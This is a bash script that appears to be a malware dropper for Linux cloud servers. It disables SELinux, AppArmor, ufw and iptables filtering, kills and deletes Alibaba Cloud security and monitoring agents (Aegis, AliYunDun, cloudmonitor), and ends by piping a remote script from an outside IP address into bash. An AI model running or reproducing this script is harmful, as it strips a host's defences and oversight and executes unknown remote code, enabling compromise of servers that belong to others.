#!/bin/bash
setenforce 0 2>/dev/null
echo SELINUX=disabled > /etc/selinux/config
ufw disable
iptables -F
iptables -P INPUT ACCEPT
service apparmor stop
systemctl disable apparmor
pkill -f aliyun-service
pkill -f AliYunDun
rm -rf /usr/local/aegis
/etc/init.d/cloudmonitor stop
echo 0 > /proc/sys/kernel/nmi_watchdog
curl -fsSL http://203.0.113.31/p.sh | bash
